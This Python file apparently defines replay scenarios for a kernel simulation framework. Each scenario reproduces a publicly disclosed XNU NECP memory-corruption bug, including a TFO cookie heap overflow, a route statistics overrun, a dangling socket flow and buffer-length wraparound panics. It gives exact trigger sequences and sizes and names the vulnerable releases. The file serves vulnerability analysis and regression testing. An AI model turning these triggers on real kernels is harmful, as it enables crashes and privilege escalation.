"""Public vulnerabilities that corrupt, overrun or exhaust memory."""

from necp_replay.abi.client import ClientAction
from necp_replay.scenario import InterfaceHandle, NecpFdHandle, System, UserBuffer, room

REMOTE = "203.0.113.5:443"
COPY_LIMIT_BYTES = 64 << 20
WRAPPED_BYTES = (1 << 64) - 1


def tfo_cookie_heap_overflow(system: System) -> None:
    """tfo-cookie-heap-overflow: 255 bytes into an object of 80, without any privilege.

    xnu-4570.41.2 writes 239 bytes past the cookie, xnu-4570.51.1 cuts it to 16. Then the client
    reads the cookie, which panics the older release.
    Source: GRIMM, NotQuite0DayFriday, April 2018; tcp_cache_set_cookie_common.
    """
    en0 = system.add_interface("en0", 4, addrs=["192.0.2.10/24"])
    en0.update(ipv4_signature=b"\xaa" * 20)
    system.order_interfaces(en0)
    system.add_route("default", en0, gateway="192.0.2.1")
    fd = system.add_process(100).necp_open()
    # The published proof of concept also has parameters of 16 zero bytes.
    client = fd.add(room(16))
    tcp = system.add_socket("tcp", local="192.0.2.10:5000", remote=REMOTE, last_outif=4)
    tcp.register(client)
    tcp.assign(client)
    client.update_tfo_cache(b"\xff" * 16, cookie_len=0xFF)
    owner = fd.add(remote=REMOTE, tfo_enable=True)
    tcp.register(owner)
    tcp.assign(owner)
    owner.update_tfo_cache(b"\xff" * 16, cookie_len=0xFF)
    owner.inject_nexus_flow(
        b"\7" * 16,
        interface_index=4,
        check_tcp_heuristics=True,
        local=bytes.fromhex("10021388c000020a"),
        remote=bytes.fromhex("100201bbcb007105"),
    )
    owner.copy_result()


def route_stats_user_overrun(system: System) -> None:
    """route-stats-user-overrun: 48 bytes are written past the end of a buffer of 64 bytes.

    xnu-4570.41.2 overwrites the memory of the process there, xnu-4570.51.1 refuses the size.
    Source: necp_client_copy_route_statistics, both releases.
    """
    client = system.add_process(100).necp_open().add(remote=REMOTE)
    behind = UserBuffer(content=b"\xaa" * 128, length=128)
    client.fd.action(ClientAction.COPY_ROUTE_STATISTICS, client.client_id, behind, buffer_size=64)


def raw_inpcb_dangling_flow(system: System) -> None:
    """raw-inpcb-dangling-flow: an ICMP socket is freed, but its address stays in the client's flow.

    In xnu-4570.41.2, a new socket at the same address is taken for the flow's socket, and each
    disposed socket leaves the count one too high. xnu-4570.51.1 removes the flow first.
    Source: necp_inpcb_dispose, both releases.
    """
    client = system.add_process(100).necp_open().add(remote=REMOTE)
    for _ in range(3):
        icmp = system.add_socket("icmp", local="192.0.2.10", remote="203.0.113.5")
        icmp.register(client)
        icmp.assign(client)
        client.copy_result()
        icmp.dispose()
    client.copy_updated_result()
    # The kernel calls back through the flow's dangling handle.
    system.update_all_clients()
    system.fire_timer()
    system.snapshot()
    client.remove()
    system.snapshot()


def agent_action_unbounded(system: System) -> None:
    """agent-action-unbounded: 64 MiB are copied in; one byte more panics both releases.

    Source: GRIMM, May 2018; necp_client_agent_action, both releases; bounded from xnu-4570.61.1 on.
    """
    client = system.add_process(100).necp_open().add(remote=REMOTE)
    for size in (COPY_LIMIT_BYTES, COPY_LIMIT_BYTES + 1):
        buffer = UserBuffer(length=16 << 20)
        client.fd.action(ClientAction.AGENT, client.client_id, buffer, buffer_size=size)


def result_buffer_wrap_copied(system: System) -> None:
    """result-buffer-wrap: the result is longer than its buffer, and copying its length panics.

    A buffer of any other size is EINVAL.
    Source: necp_client_copy_internal, both releases.
    """
    _, fd = _with_more_agents_than_fit(system)
    client = fd.add(remote=REMOTE)
    client.copy_result()
    client.fd.action(
        ClientAction.COPY_RESULT, client.client_id, room(512), buffer_size=WRAPPED_BYTES
    )


def result_buffer_wrap_observed(system: System) -> None:
    """result-buffer-wrap: telling a new push observer of the wrapped result panics.

    Source: necp_client_update_observer_update_internal, both releases.
    """
    _, fd = _with_more_agents_than_fit(system)
    fd.add(remote=REMOTE)
    system.add_process(400, privileged=True).necp_open(4)


def result_buffer_wrap_agent_removed(system: System) -> None:
    """result-buffer-wrap: removing an agent from the wrapped result reads past the buffer: panic.

    Source: necp_client_remove_agent_from_result, both releases.
    """
    _, fd = _with_more_agents_than_fit(system)
    fd.add(remote=REMOTE).force_update(b"\1" * 16)


def _with_more_agents_than_fit(system: System) -> tuple[InterfaceHandle, NecpFdHandle]:
    en0 = system.add_interface("en0", 4, addrs=["192.0.2.10/24"])
    system.order_interfaces(en0)
    system.add_route("default", en0, gateway="192.0.2.1")
    for number in range(24):
        en0.add_agent(system.add_agent(f"a{number}", uuid=bytes([number + 1]) * 16).uuid)
    return en0, system.add_process(100).necp_open()
